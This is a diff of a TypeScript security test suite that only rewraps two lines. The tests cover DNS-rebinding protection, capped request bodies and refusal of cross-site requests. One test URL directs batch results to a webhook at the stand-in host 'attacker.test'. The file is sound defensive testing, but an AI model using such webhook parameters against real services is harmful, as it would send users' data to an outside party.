@@ -86,7 +86,8 @@ function raw(req: RawRequest): Promise<RawAnswer> {
   });
 }
 
-const json = (a: RawAnswer) => JSON.parse(a.body) as { status: string; data: unknown; error?: { code: number } };
+const json = (a: RawAnswer) =>
+  JSON.parse(a.body) as { status: string; data: unknown; error?: { code: number } };
 
 test.describe('DNS rebinding: a Host that is not one of the server names gets 421', () => {
   test('pages answer 421 in plain text to a rebound Host, and normally to their own names', async () => {
@@ -163,7 +164,8 @@ test.describe('capped request bodies', () => {
 });
 
 test.describe('requests another site causes', () => {
-  const results = '/api/upstream/v0/batches/x/results?output_type=webhook&webhook_url=https%3A%2F%2Fattacker.test%2F';
+  const results =
+    '/api/upstream/v0/batches/x/results?output_type=webhook&webhook_url=https%3A%2F%2Fattacker.test%2F';
 
   test('a cross-site GET that would send results to a webhook is refused', async () => {
     const crossSite = await raw({ path: results, headers: { 'sec-fetch-site': 'cross-site' } });
